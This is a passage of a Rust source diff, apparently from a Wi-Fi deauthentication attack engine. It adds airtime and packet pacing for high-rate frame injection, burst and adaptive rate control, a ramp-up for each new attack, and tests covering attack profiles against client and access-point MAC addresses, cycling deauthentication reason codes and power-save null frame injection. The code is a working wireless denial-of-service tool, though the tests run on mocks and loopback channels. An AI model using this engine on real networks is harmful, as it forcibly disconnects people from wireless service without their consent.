+    limit: usize,
+}
+
+impl InjectedFrameLog {
+    fn new(limit: usize) -> Self {
         Self {
-            max_rate,
-            tokens: Arc::new(AtomicU64::new(max_rate as u64)),
-            last_refill: Arc::new(RwLock::new(Instant::now())),
+            frames: Mutex::new(Vec::new()),
+            limit,
         }
     }
     
-    pub fn try_acquire(&self) -> bool {
-        let now = Instant::now();
-        let mut last_refill = self.last_refill.write();
+    fn record(&self, frame: &[u8]) {
+        let mut frames = self.frames.lock();
+        if frames.len() == self.limit {
+            debug!("Injected frame log full, not recording {} bytes", frame.len());
+            return;
+        }
         
-        // Refill tokens based on time elapsed
-        let elapsed = now.duration_since(*last_refill);
-        let tokens_to_add = (elapsed.as_secs() * self.max_rate as u64) + 
-                           (elapsed.subsec_millis() as u64 * self.max_rate as u64 / 1000);
+        frames.push(CaptureResult {
+            timestamp: std::time::SystemTime::now(),
+            data: frame.to_vec(),
+            length: frame.len(),
+        });
+    }
+    
+    fn take(&self) -> Vec<CaptureResult> {
+        std::mem::take(&mut *self.frames.lock())
+    }
+}
+
+/// Wrap `injector` to record into `log`, if frames are recorded
+fn recorded(injector: Arc<dyn Injector>, log: Option<&Arc<InjectedFrameLog>>) -> Arc<dyn Injector> {
+    match log {
+        Some(log) => Arc::new(RecordingInjector {
+            inner: injector,
+            log: Arc::clone(log),
+        }),
+        None => injector,
+    }
+}
+
+/// Injector recording every frame its inner injector sent
+struct RecordingInjector {
+    inner: Arc<dyn Injector>,
+    log: Arc<InjectedFrameLog>,
+}
+
+impl Injector for RecordingInjector {
+    fn inject_frame(&self, frame: &[u8]) -> Result<usize> {
+        let sent = self.inner.inject_frame(frame)?;
+        self.log.record(frame);
+        Ok(sent)
+    }
+}
+
+/// Initial pause after the send buffer fills up, doubled on each retry
+const SEND_BUFFER_BACKOFF: Duration = Duration::from_millis(1);
+
+/// Sends attempted per frame while the send buffer stays full
+const SEND_BUFFER_MAX_ATTEMPTS: u32 = 6;
+
+/// Inject a frame, backing off while the send buffer is full
+///
+/// `ENOBUFS` means the interface is being fed faster than it drains, so the
+/// worker sleeps and retries instead of counting the frame as failed. Each
+/// rejected send is recorded separately from real injection errors.
+fn inject_with_backoff(
+    frame: &[u8],
+    injector: &dyn Injector,
+    metrics_collector: &MetricsCollector,
+) -> Result<usize> {
+    let mut backoff = SEND_BUFFER_BACKOFF;
+    let mut attempts = 0;
+    
+    loop {
+        let result = injector.inject_frame(frame);
+        if !matches!(result, Err(DeauthError::SendBufferFull(_))) {
+            return result;
+        }
+        
+        metrics_collector.record_send_buffer_full();
+        attempts += 1;
+        if attempts == SEND_BUFFER_MAX_ATTEMPTS {
+            return result;
+        }
+        
+        debug!("Send buffer full, backing off for {:?}", backoff);
+        thread::sleep(backoff);
+        backoff *= 2;
+    }
+}
+
+/// PLCP preamble and header time of a DSSS/CCK transmission (long preamble)
+const DSSS_PREAMBLE: Duration = Duration::from_micros(192);
+
+/// PLCP preamble and header time of an OFDM transmission
+const OFDM_PREAMBLE: Duration = Duration::from_micros(20);
+
+/// Lowest OFDM PHY rate (kbit/s); slower rates are DSSS/CCK
+const MIN_OFDM_RATE_KBPS: u32 = 6000;
+
+/// Estimate the time a frame of `frame_len` bytes spends on air at `phy_rate_kbps`
+///
+/// `frame_len` counts from the 802.11 header on; radiotap headers are not
+/// transmitted. Symbol padding and the FCS are ignored.
+pub fn airtime(frame_len: usize, phy_rate_kbps: u32) -> Duration {
+    let preamble = if phy_rate_kbps < MIN_OFDM_RATE_KBPS { DSSS_PREAMBLE } else { OFDM_PREAMBLE };
+    let bits = frame_len as u64 * 8;
+    let payload_us = (bits * 1000).div_ceil(u64::from(phy_rate_kbps.max(1)));
+    
+    preamble + Duration::from_micros(payload_us)
+}
+
+/// Airtime-aware pacer
+///
+/// Limits the estimated time frames spend on air per second rather than the
+/// packet count, so a long frame uses up far more of the budget than a
+/// 26-byte deauthentication. Up to one second's budget accumulates while idle.
+pub struct AirtimePacer {
+    phy_rate_kbps: u32,
+    budget_us: u64,
+    state: Mutex<AirtimeState>,
+}
+
+struct AirtimeState {
+    available_us: u64,
+    last_refill: Instant,
+}
+
+impl AirtimePacer {
+    pub fn new(config: AirtimeConfig) -> Self {
+        Self {
+            phy_rate_kbps: config.phy_rate_kbps,
+            budget_us: config.budget_us_per_second,
+            state: Mutex::new(AirtimeState {
+                available_us: config.budget_us_per_second,
+                last_refill: Instant::now(),
+            }),
+        }
+    }
+    
+    /// Estimated airtime of a frame at the configured PHY rate
+    pub fn airtime(&self, frame_len: usize) -> Duration {
+        airtime(frame_len, self.phy_rate_kbps)
+    }
+    
+    /// Unused airtime budget
+    pub fn available(&self) -> Duration {
+        Duration::from_micros(self.state.lock().available_us)
+    }
+    
+    /// Take the airtime for one frame from the budget
+    ///
+    /// On failure returns how long to wait until enough budget has refilled.
+    pub fn try_consume(&self, frame_len: usize) -> std::result::Result<(), Duration> {
+        self.try_consume_at(frame_len, Instant::now())
+    }
+    
+    fn try_consume_at(&self, frame_len: usize, now: Instant) -> std::result::Result<(), Duration> {
+        // Frames longer than the whole budget go out once it is full
+        let cost = (self.airtime(frame_len).as_micros() as u64).min(self.budget_us);
+        let mut state = self.state.lock();
+        
+        let elapsed_us = now.saturating_duration_since(state.last_refill).as_micros() as u64;
+        let refill = elapsed_us * self.budget_us / 1_000_000;
+        if refill > 0 {
+            state.available_us = (state.available_us + refill).min(self.budget_us);
+            state.last_refill = now;
+        }
+        
+        if state.available_us >= cost {
+            state.available_us -= cost;
+            Ok(())
+        } else {
+            let missing = cost - state.available_us;
+            Err(Duration::from_micros((missing * 1_000_000).div_ceil(self.budget_us)))
+        }
+    }
+}
+
+/// Default `EngineConfig::spin_threshold`
+///
+/// About one scheduler overshoot; a longer tail burns a core per worker.
+pub const DEFAULT_SPIN_THRESHOLD: Duration = Duration::from_micros(150);
+
+/// Sleep until `deadline`, spinning through the last `spin_threshold`
+///
+/// The sleep stops short of the deadline by the threshold so scheduler
+/// overshoot lands inside the spin rather than past the deadline.
+pub fn sleep_until(deadline: Instant, spin_threshold: Duration) {
+    loop {
+        let now = Instant::now();
+        if now >= deadline {
+            return;
+        }
+        
+        let remaining = deadline - now;
+        if remaining > spin_threshold {
+            thread::sleep(remaining - spin_threshold);
+        } else {
+            std::hint::spin_loop();
+        }
+    }
+}
+
+/// Paces frames to a fixed interval with a high-resolution timer
+///
+/// Deadlines advance by exactly one interval per frame, so time spent
+/// building and sending a frame does not lower the rate. After a stall longer
+/// than an interval the schedule restarts instead of bursting to catch up.
+#[derive(Debug)]
+pub struct PacketPacer {
+    interval: Duration,
+    spin_threshold: Duration,
+    next: Option<Instant>,
+}
+
+impl PacketPacer {
+    pub fn new(interval: Duration, spin_threshold: Duration) -> Self {
+        Self {
+            interval,
+            spin_threshold,
+            next: None,
+        }
+    }
+    
+    /// Current interval between frames
+    pub fn interval(&self) -> Duration {
+        self.interval
+    }
+    
+    /// Change the interval, taking effect after the next frame
+    pub fn set_interval(&mut self, interval: Duration) {
+        self.interval = interval;
+    }
+    
+    /// Wait until the next frame is due; the first call returns immediately
+    pub fn wait(&mut self) {
+        if let Some(next) = self.next {
+            sleep_until(next, self.spin_threshold);
+        }
+        
+        self.advance_at(Instant::now());
+    }
+    
+    /// Schedule the frame after one sent at `now`, returning when it is due
+    fn advance_at(&mut self, now: Instant) -> Instant {
+        let next = match self.next {
+            Some(next) if now.saturating_duration_since(next) <= self.interval => next + self.interval,
+            _ => now + self.interval,
+        };
+        self.next = Some(next);
+        next
+    }
+}
+
+/// Linear ramp from zero to a worker's full rate
+///
+/// The ramp starts on the first request and restarts when work resumes after
+/// the worker was idle for longer than the window, so every new attack gets
+/// a gentle start but back-to-back requests do not.
+#[derive(Debug)]
+pub struct RampUp {
+    window: Duration,
+    started: Option<Instant>,
+    last_active: Option<Instant>,
+}
+
+impl RampUp {
+    pub fn new(window: Duration) -> Self {
+        Self {
+            window,
+            started: None,
+            last_active: None,
+        }
+    }
+    
+    /// Note that the worker is serving a request
+    pub fn activate(&mut self) {
+        self.activate_at(Instant::now());
+    }
+    
+    fn activate_at(&mut self, now: Instant) {
+        let resumed = self
+            .last_active
+            .map_or(true, |last| now.saturating_duration_since(last) > self.window);
+        if resumed {
+            self.started = Some(now);
+        }
+        self.last_active = Some(now);
+    }
+    
+    /// Note that the worker just handled a frame, so idle time counts from here
+    ///
+    /// A request outlasting the window must not look like idle time to the
+    /// next one.
+    pub fn mark_busy(&mut self) {
+        self.mark_busy_at(Instant::now());
+    }
+    
+    fn mark_busy_at(&mut self, now: Instant) {
+        self.last_active = Some(now);
+    }
+    
+    /// Rate allowed now, out of `max_rate`; never below 1 packet/second
+    pub fn rate(&self, max_rate: u32) -> u32 {
+        self.rate_at(Instant::now(), max_rate)
+    }
+    
+    fn rate_at(&self, now: Instant, max_rate: u32) -> u32 {
+        let elapsed = self.started.map_or(Duration::ZERO, |started| now.saturating_duration_since(started));
+        if elapsed >= self.window {
+            return max_rate;
+        }
+        
+        let rate = u128::from(max_rate) * elapsed.as_nanos() / self.window.as_nanos();
+        (rate as u32).max(1)
+    }
+}
+
+/// Rate limiter for injection control
+///
+/// Token bucket refilled at `max_rate` tokens per second. Up to `burst` extra
+/// tokens accumulate while idle, allowing a short initial flood before the
+/// rate settles to `max_rate`.
+pub struct RateLimiter {
+    max_rate: u32,
+    burst: u32,
+    tokens: Arc<AtomicU64>,
+    last_refill: Arc<RwLock<Instant>>,
+}
+
+impl RateLimiter {
+    pub fn new(max_rate: u32) -> Self {
+        Self::with_burst(max_rate, 0)
+    }
+    
+    pub fn with_burst(max_rate: u32, burst: u32) -> Self {
+        let capacity = max_rate as u64 + burst as u64;
+        
+        Self {
+            max_rate,
+            burst,
+            tokens: Arc::new(AtomicU64::new(capacity)),
+            last_refill: Arc::new(RwLock::new(Instant::now())),
+        }
+    }
+    
+    /// Maximum number of tokens the bucket can hold
+    pub fn capacity(&self) -> u64 {
+        self.max_rate as u64 + self.burst as u64
+    }
+    
+    pub fn try_acquire(&self) -> bool {
+        let now = Instant::now();
+        let mut last_refill = self.last_refill.write();
+        
+        // Refill tokens based on time elapsed
+        let elapsed = now.duration_since(*last_refill);
+        let tokens_to_add = (elapsed.as_secs() * self.max_rate as u64) + 
+                           (elapsed.subsec_millis() as u64 * self.max_rate as u64 / 1000);
         
         if tokens_to_add > 0 {
             let current_tokens = self.tokens.load(Ordering::Relaxed);
-            let new_tokens = (current_tokens + tokens_to_add).min(self.max_rate as u64);
+            let new_tokens = (current_tokens + tokens_to_add).min(self.capacity());
             self.tokens.store(new_tokens, Ordering::Relaxed);
             *last_refill = now;
         }
@@ -384,9 +2311,70 @@ impl RateLimiter {
     }
 }
 
+/// Why a built frame was not handed to the injector
+enum Unsent {
+    /// The frame does not fit in what is left of the byte budget
+    OverBudget,
+    
+    /// The engine, the attack or the request stopped while the frame waited for airtime
+    Stopped,
+}
+
+/// Additive-increase/multiplicative-decrease rate controller
+///
+/// Starts at a quarter of `max_rate`. Every tenth of a second's worth of
+/// clean sends adds `max_rate / 50` packets per second; a drop halves the
+/// rate. The rate saw-tooths just under what the link sustains.
+#[derive(Debug, Clone)]
+pub struct AdaptiveRate {
+    rate: u32,
+    max_rate: u32,
+    step: u32,
+    clean_sends: u32,
+}
+
+impl AdaptiveRate {
+    pub fn new(max_rate: u32) -> Self {
+        let max_rate = max_rate.max(1);
+        
+        Self {
+            rate: (max_rate / 4).max(1),
+            max_rate,
+            step: (max_rate / 50).max(1),
+            clean_sends: 0,
+        }
+    }
+    
+    /// Current rate (packets/second)
+    pub fn rate(&self) -> u32 {
+        self.rate
+    }
+    
+    /// Minimum interval between sends at the current rate
+    pub fn interval(&self) -> Duration {
+        Duration::from_micros(1_000_000 / u64::from(self.rate))
+    }
+    
+    /// Feed the outcome of one send
+    pub fn record(&mut self, dropped: bool) {
+        if dropped {
+            self.rate = (self.rate / 2).max(1);
+            self.clean_sends = 0;
+            return;
+        }
+        
+        self.clean_sends += 1;
+        if self.clean_sends >= (self.rate / 10).max(1) {
+            self.rate = (self.rate + self.step).min(self.max_rate);
+            self.clean_sends = 0;
+        }
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::core::attack::AttackTarget;
     use std::time::Duration;
     
     #[test]
@@ -418,4 +2406,1517 @@ mod tests {
         // Should be able to acquire more tokens
         assert!(limiter.try_acquire());
     }
+    
+    #[test]
+    fn test_rate_limiter_burst() {
+        let limiter = RateLimiter::with_burst(10, 5);
+        
+        // A full bucket grants max_rate + burst at once
+        let initial = (0..30).filter(|_| limiter.try_acquire()).count();
+        assert_eq!(initial, 15);
+        
+        // Afterwards tokens only come back at max_rate
+        std::thread::sleep(Duration::from_millis(500));
+        let refilled = (0..30).filter(|_| limiter.try_acquire()).count();
+        assert!(refilled >= 4 && refilled < 10, "refilled {} tokens in 500ms", refilled);
+    }
+    
+    #[test]
+    fn test_config_validation() {
+        assert!(EngineConfig::default().validate().is_ok());
+        
+        let oversubscribed = EngineConfig {
+            worker_threads: 8,
+            max_rate_per_worker: 2000,
+            ..EngineConfig::default()
+        };
+        assert_eq!(oversubscribed.aggregate_rate(), 16_000);
+        assert!(matches!(oversubscribed.validate(), Err(DeauthError::InvalidField { .. })));
+        assert!(DeauthEngine::new(oversubscribed).is_err());
+        
+        let no_workers = EngineConfig {
+            worker_threads: 0,
+            ..EngineConfig::default()
+        };
+        assert!(no_workers.validate().is_err());
+    }
+    
+    #[test]
+    fn test_pacer_reaches_high_rate() {
+        const RATE: u32 = 5000;
+        const FRAMES: u32 = 1000;
+        
+        let interval = Duration::from_micros(1_000_000 / u64::from(RATE));
+        let mut pacer = PacketPacer::new(interval, DEFAULT_SPIN_THRESHOLD);
+        let start = Instant::now();
+        
+        // Each frame goes out late by a varying share of the interval, yet the
+        // deadlines stay on the grid, so the rate holds exactly
+        let mut due = pacer.advance_at(start);
+        for frame in 1..FRAMES {
+            let lateness = interval * (frame % 10) / 10;
+            due = pacer.advance_at(due + lateness);
+        }
+        assert_eq!(due, start + interval * FRAMES);
+        
+        // A stall longer than an interval restarts the schedule instead of bursting
+        let stalled = due + interval * 3;
+        assert_eq!(pacer.advance_at(stalled), stalled + interval);
+    }
+    
+    #[test]
+    fn test_pacer_sustains_high_rate() {
+        const RATE: u32 = 5000;
+        const FRAMES: u32 = 2500;
+        
+        let interval = Duration::from_micros(1_000_000 / u64::from(RATE));
+        let mut pacer = PacketPacer::new(interval, DEFAULT_SPIN_THRESHOLD);
+        let injector = MockInjector::new(false);
+        let frame = DeauthPacket::new(MacAddress::new([0xFF; 6]), MacAddress::new([0x02; 6]), MacAddress::new([0x02; 6]), 7).to_bytes();
+        
+        // The first frame goes out at once, so the run spans one interval less than the frames
+        let start = Instant::now();
+        for _ in 0..FRAMES {
+            pacer.wait();
+            injector.inject_frame(&frame).expect("Should send");
+        }
+        let measured = f64::from(FRAMES - 1) / start.elapsed().as_secs_f64();
+        
+        assert_eq!(injector.frames.load(Ordering::Relaxed), u64::from(FRAMES));
+        assert!((measured - f64::from(RATE)).abs() < f64::from(RATE) * 0.1, "measured {:.0} packets/second", measured);
+    }
+    
+    #[test]
+    fn test_ramp_up_climbs_then_plateaus() {
+        let window = Duration::from_secs(2);
+        let mut ramp = RampUp::new(window);
+        let start = Instant::now();
+        ramp.activate_at(start);
+        
+        let rates: Vec<u32> = (0..=30)
+            .map(|tenth| ramp.rate_at(start + Duration::from_millis(tenth * 100), 1000))
+            .collect();
+        
+        // Climbs over the window, strictly while ramping, then holds at the full rate
+        assert_eq!(rates[0], 1);
+        assert!(rates[..=20].windows(2).all(|pair| pair[0] < pair[1]));
+        assert_eq!(rates[10], 500);
+        assert!(rates[20..].iter().all(|&rate| rate == 1000));
+        
+        // Back-to-back work keeps the ramp; resuming after a long idle restarts it
+        ramp.activate_at(start + Duration::from_millis(1500));
+        ramp.activate_at(start + Duration::from_secs(3));
+        assert_eq!(ramp.rate_at(start + Duration::from_secs(3), 1000), 1000);
+        ramp.activate_at(start + Duration::from_secs(10));
+        assert_eq!(ramp.rate_at(start + Duration::from_secs(11), 1000), 500);
+        
+        // A request running well past the window is not idle time for the next one
+        ramp.mark_busy_at(start + Duration::from_secs(20));
+        ramp.activate_at(start + Duration::from_secs(21));
+        assert_eq!(ramp.rate_at(start + Duration::from_secs(21), 1000), 1000);
+    }
+    
+    #[test]
+    fn test_airtime_budget() {
+        use super::super::packet::DEAUTH_FRAME_LEN;
+        
+        // 1 Mbit/s DSSS: 192 us preamble plus 8 us per byte
+        assert_eq!(airtime(DEAUTH_FRAME_LEN, 1000), Duration::from_micros(192 + 208));
+        assert_eq!(airtime(1500, 1000), Duration::from_micros(192 + 12_000));
+        // 54 Mbit/s OFDM
+        assert_eq!(airtime(1500, 54_000), Duration::from_micros(20 + 223));
+        
+        let pacer = AirtimePacer::new(AirtimeConfig {
+            phy_rate_kbps: 1000,
+            budget_us_per_second: 100_000,
+        });
+        let start = pacer.state.lock().last_refill;
+        
+        // Ten deauths and seven full-size frames fit in a 100 ms budget
+        for _ in 0..10 {
+            assert_eq!(pacer.try_consume_at(DEAUTH_FRAME_LEN, start), Ok(()));
+        }
+        for _ in 0..7 {
+            assert_eq!(pacer.try_consume_at(1500, start), Ok(()));
+        }
+        assert_eq!(pacer.available(), Duration::from_micros(100_000 - 10 * 400 - 7 * 12_192));
+        
+        // The eighth needs 1536 us more budget, refilled at 0.1 us per us
+        assert_eq!(pacer.try_consume_at(1500, start), Err(Duration::from_micros(15_360)));
+        assert_eq!(pacer.try_consume_at(1500, start + Duration::from_micros(15_360)), Ok(()));
+        
+        // The budget is now empty, so even a deauth waits for 400 us of refill
+        assert_eq!(pacer.try_consume_at(DEAUTH_FRAME_LEN, start + Duration::from_micros(15_360)), Err(Duration::from_micros(4_000)));
+        assert!(EngineConfig {
+            airtime: Some(AirtimeConfig { phy_rate_kbps: 1000, budget_us_per_second: 2_000_000 }),
+            ..EngineConfig::default()
+        }
+        .validate()
+        .is_err());
+    }
+    
+    #[test]
+    fn test_config_validation_names_field() {
+        let field_of = |config: EngineConfig| {
+            let error = config.validate().expect_err("Should be invalid");
+            error.config_field().map(str::to_string)
+        };
+        
+        let cases = [
+            ("worker_threads", EngineConfig { worker_threads: 0, ..EngineConfig::default() }),
+            ("max_rate_per_worker", EngineConfig { max_rate_per_worker: 0, ..EngineConfig::default() }),
+            ("max_targets", EngineConfig { max_targets: 0, ..EngineConfig::default() }),
+            ("max_aggregate_rate", EngineConfig { max_aggregate_rate: 100, ..EngineConfig::default() }),
+        ];
+        for (field, config) in cases {
+            assert_eq!(field_of(config).as_deref(), Some(field));
+        }
+        
+        let error = DeauthError::invalid_field("max_targets", "must be at least 1");
+        assert_eq!(error.to_string(), "Invalid configuration: max_targets: must be at least 1");
+        assert_eq!(DeauthError::ConfigError("other".to_string()).config_field(), None);
+    }
+    
+    #[test]
+    fn test_shared_buffer_pool() {
+        let pool = Arc::new(PacketBuffer::new(8, 2048));
+        let engine_2ghz = DeauthEngine::with_buffer_pool(EngineConfig::default(), Arc::clone(&pool))
+            .expect("Should create engine");
+        let engine_5ghz = DeauthEngine::with_buffer_pool(EngineConfig::default(), Arc::clone(&pool))
+            .expect("Should create engine");
+        
+        let buffer = engine_2ghz.buffer_pool().acquire().expect("Should get buffer");
+        assert_eq!(engine_5ghz.buffer_pool().stats().available, 7);
+        assert_eq!(pool.stats().available, 7);
+        
+        engine_5ghz.buffer_pool().release(buffer);
+        assert_eq!(engine_2ghz.buffer_pool().stats().available, 8);
+    }
+    
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_run_profile_summary() {
+        let config = EngineConfig {
+            worker_threads: 2,
+            ..EngineConfig::default()
+        };
+        let mut engine = DeauthEngine::new(config).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        
+        let ap = MacAddress::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]);
+        let clients = [
+            MacAddress::new([0x66, 0x77, 0x88, 0x99, 0xAA, 0x01]),
+            MacAddress::new([0x66, 0x77, 0x88, 0x99, 0xAA, 0x02]),
+        ];
+        let profile = AttackProfile {
+            targets: clients
+                .iter()
+                .map(|&target| AttackTarget { target, access_point: ap })
+                .collect(),
+            frames_per_target: 5,
+            interval: Duration::from_millis(1),
+            ..AttackProfile::default()
+        };
+        
+        let summary = engine
+            .run_profile(profile)
+            .expect("Should run profile")
+            .wait()
+            .await
+            .expect("Should finish");
+        let metrics = engine.metrics_collector.calculate_metrics();
+        
+        assert_eq!(summary.total_packets, 10);
+        assert_eq!(summary.total_packets, metrics.packets_injected);
+        assert_eq!(summary.bytes_transmitted, metrics.bytes_transmitted);
+        assert!((summary.success_rate - metrics.success_rate).abs() < f64::EPSILON);
+        assert!(!summary.stopped);
+        assert_eq!(summary.per_target.len(), 2);
+        assert!(summary.per_target.iter().all(|t| t.packets_sent == 5));
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[tokio::test(flavor = "multi_thread")]
+    async fn test_run_profile_cancellation() {
+        let mut engine = DeauthEngine::new(EngineConfig::default()).expect("Should create engine");
+        engine.start().expect("Should start engine");
+        
+        let profile = AttackProfile {
+            targets: vec![AttackTarget {
+                target: MacAddress::new([0x66, 0x77, 0x88, 0x99, 0xAA, 0x01]),
+                access_point: MacAddress::new([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
+            }],
+            frames_per_target: 1000,
+            interval: Duration::from_millis(10),
+            ..AttackProfile::default()
+        };
+        
+        let cancel = CancellationToken::new();
+        let handle = engine
+            .run_profile_with_token(profile, cancel.clone())
+            .expect("Should run profile");
+        
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        cancel.cancel();
+        
+        let summary = handle.wait().await.expect("Should finish");
+        let sent_at_cancel = summary.total_packets;
+        assert!(summary.stopped);
+        assert!(sent_at_cancel > 0 && sent_at_cancel < 1000);
+        
+        // Nothing further is sent once the run has been cancelled
+        tokio::time::sleep(Duration::from_millis(50)).await;
+        assert_eq!(engine.metrics_collector.calculate_metrics().packets_injected, sent_at_cancel);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    #[test]
+    fn test_self_test() {
+        let engine = DeauthEngine::new(EngineConfig::default()).expect("Should create engine");
+        let report = engine.self_test();
+        
+        assert!(report.passed(), "Self-test failures: {:?}", report.failures);
+        assert!(report.failures.is_empty());
+        
+        // Engine metrics are untouched and buffers are returned
+        assert_eq!(engine.metrics_collector.calculate_metrics().packets_injected, 0);
+        assert_eq!(engine.buffer_pool.stats().available, engine.config.buffer_pool_size);
+    }
+    
+    #[test]
+    fn test_frame_integrity_on_loopback() {
+        use super::super::packet::RADIOTAP_HEADER;
+        
+        let engine = DeauthEngine::new(EngineConfig::default()).expect("Should create engine");
+        engine.verify_frame_integrity().expect("Loopback frame should match");
+        assert_eq!(engine.buffer_pool.stats().available, engine.config.buffer_pool_size);
+        
+        // Ambient traffic is skipped; nothing captured is an error
+        let loopback = LoopbackChannel::new();
+        let other = DeauthPacket::new(MacAddress::new([0xFF; 6]), MacAddress::new([0x0A; 6]), MacAddress::new([0x0A; 6]), 7);
+        loopback.inject_frame(&other.to_bytes()).unwrap();
+        engine.verify_frame_integrity_with(&loopback, &loopback).expect("Should find the test frame");
+        assert!(engine.verify_frame_integrity_with(&SimulatedInjector, &loopback).is_err());
+        
+        // A driver-added FCS is tolerated, a changed byte is not
+        let built = other.to_bytes();
+        let expected = &built[RADIOTAP_HEADER.len()..];
+        let mut with_fcs = built.to_vec();
+        with_fcs.extend_from_slice(&[0xDE, 0xAD, 0xBE, 0xEF]);
+        assert!(compare_frames(expected, &with_fcs).is_ok());
+        
+        let mut corrupted = built.to_vec();
+        corrupted[RADIOTAP_HEADER.len() + 24] ^= 0x01;
+        let error = compare_frames(expected, &corrupted).unwrap_err();
+        assert!(error.to_string().contains("differs at byte 24"));
+        assert!(compare_frames(expected, &built[..built.len() - 1]).is_err());
+        
+        // A frame that drifts from the known-good layout fails the check
+        let drifted = LoopbackChannel::new();
+        let mut frame = RADIOTAP_HEADER.to_vec();
+        frame.extend_from_slice(&INTEGRITY_FRAME);
+        frame[RADIOTAP_HEADER.len() + 2] = 0x00;
+        drifted.inject_frame(&frame).unwrap();
+        assert!(engine.verify_frame_integrity_with(&SimulatedInjector, &drifted).is_err());
+    }
+    
+    #[test]
+    fn test_reason_codes_cycle_round_robin() {
+        use super::super::packet::reason_codes;
+        
+        let codes = [
+            reason_codes::PREV_AUTH_NOT_VALID,
+            reason_codes::DISASSOC_INACTIVITY,
+            reason_codes::CLASS3_FRAME_FROM_NONASSOC_STA,
+        ];
+        let mut request = InjectionRequest {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+            reason_code: reason_codes::UNSPECIFIED,
+            count: 1,
+            interval: Duration::ZERO,
+            reason_codes: Arc::from(codes.to_vec()),
+            round: 0,
+            mode: FrameMode::Deauth,
+            tracker: None,
+            priority: Priority::Normal,
+        };
+        
+        let carried: Vec<u16> = (0..7)
+            .map(|round| {
+                request.round = round;
+                let bytes = request.build_packet().to_bytes();
+                let frame = super::super::packet::strip_radiotap(&bytes).expect("Should have radiotap header");
+                u16::from_le_bytes([frame[24], frame[25]])
+            })
+            .collect();
+        
+        assert_eq!(carried, vec![codes[0], codes[1], codes[2], codes[0], codes[1], codes[2], codes[0]]);
+        
+        // Without a cycle the fixed reason code is used
+        request.reason_codes = Arc::from(Vec::new());
+        assert_eq!(request.build_packet().reason_code, reason_codes::UNSPECIFIED);
+    }
+    
+    #[tokio::test]
+    async fn test_power_save_null_mode() {
+        use super::super::packet::{strip_radiotap, QOS_NULL_FRAME_LEN};
+        use crate::network::loopback::LoopbackChannel;
+        
+        let client = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]);
+        let ap = MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]);
+        
+        // Refused unless advanced frames are enabled
+        let engine = DeauthEngine::new(EngineConfig::default()).expect("Should create engine");
+        let refused = engine.inject_power_save_nulls(client, ap, 1, Duration::ZERO).await;
+        assert!(matches!(refused, Err(DeauthError::ConfigError(_))));
+        
+        let request = InjectionRequest {
+            target: client,
+            access_point: ap,
+            reason_code: 0,
+            count: 1,
+            interval: Duration::ZERO,
+            reason_codes: Arc::from(Vec::new()),
+            round: 5,
+            mode: FrameMode::PowerSaveNull,
+            tracker: None,
+            priority: Priority::Normal,
+        };
+        let loopback = LoopbackChannel::new();
+        process_injection_request(&request, &engine.buffer_pool(), &engine.frame_templates, &loopback).expect("Should inject");
+        
+        let capture = loopback.capture_packet().expect("Should capture").expect("Should have a frame");
+        let frame = strip_radiotap(&capture.data).expect("Should have radiotap header");
+        assert_eq!(frame.len(), QOS_NULL_FRAME_LEN);
+        assert_eq!(&frame[0..2], &[0xC8, 0x11]);
+        assert_eq!(&frame[10..16], &client.bytes());
+        assert_eq!(&frame[22..24], &[0x50, 0x00]);
+    }
+    
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn test_profile_uses_configured_default_reason() {
+        use super::super::packet::reason_codes;
+        use crate::network::loopback::LoopbackChannel;
+        
+        let config = EngineConfig {
+            default_reason_code: reason_codes::CLASS3_FRAME_FROM_NONASSOC_STA,
+            ..EngineConfig::default()
+        };
+        let loopback = Arc::new(LoopbackChannel::new());
+        let mut engine = DeauthEngine::new(config)
+            .expect("Should create engine")
+            .with_injector(Arc::clone(&loopback) as Arc<dyn Injector>);
+        engine.start().expect("Should start");
+        
+        let target = AttackTarget {
+            target: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x01]),
+            access_point: MacAddress::new([0x02, 0x00, 0x00, 0x00, 0x00, 0x02]),
+        };
+        let unspecified = AttackProfile {
+            targets: vec![target],
+            frames_per_target: 2,
+            interval: Duration::ZERO,
+            ..AttackProfile::default()
+        };
+        let explicit = AttackProfile {
+            reason_code: Some(reason_codes::DEAUTH_LEAVING),
+            ..unspecified.clone()
+        };
+        
+        let mut carried = Vec::new();
+        for profile in [unspecified, explicit] {
+            engine.run_profile(profile)
+                .expect("Should run profile")
+                .wait()
+                .await
+                .expect("Should finish");
+            
+            while let Some(capture) = loopback.capture_packet().expect("Should capture") {
+                let frame = super::super::packet::strip_radiotap(&capture.data).expect("Should have radiotap header");
+                carried.push(DeauthPacket::parse(frame).expect("Should parse").reason_code);
+            }
+        }
+        
+        assert_eq!(carried, vec![
+            reason_codes::CLASS3_FRAME_FROM_NONASSOC_STA,
+            reason_codes::CLASS3_FRAME_FROM_NONASSOC_STA,
+            reason_codes::DEAUTH_LEAVING,
+            reason_codes::DEAUTH_LEAVING,
+        ]);
+        
+        engine.shutdown().await.expect("Should shut down");
+    }
+    
+    /// Injector that counts frames and can be told to fail every send,
+    /// to stall on the first one or to report a full send buffer
+    struct MockInjector {
+        frames: AtomicU64,
+        fail: bool,
+        first_stall: Duration,
+        buffer_full: u64,
+    }
+    
+    impl MockInjector {
+        fn new(fail: bool) -> Self {
+            Self { frames: AtomicU64::new(0), fail, first_stall: Duration::ZERO, buffer_full: 0 }
+        }
+        
+        fn stalling(first_stall: Duration) -> Self {
+            Self { frames: AtomicU64::new(0), fail: false, first_stall, buffer_full: 0 }
+        }
+        
+        /// Reject the first `sends` sends with `ENOBUFS`
+        fn buffer_full(sends: u64) -> Self {
+            Self { frames: AtomicU64::new(0), fail: false, first_stall: Duration::ZERO, buffer_full: sends }
+        }
+    }
+    
+    impl Injector for MockInjector {
+        fn inject_frame(&self, frame: &[u8]) -> Result<usize> {
+            let sent = self.frames.fetch_add(1, Ordering::Relaxed);
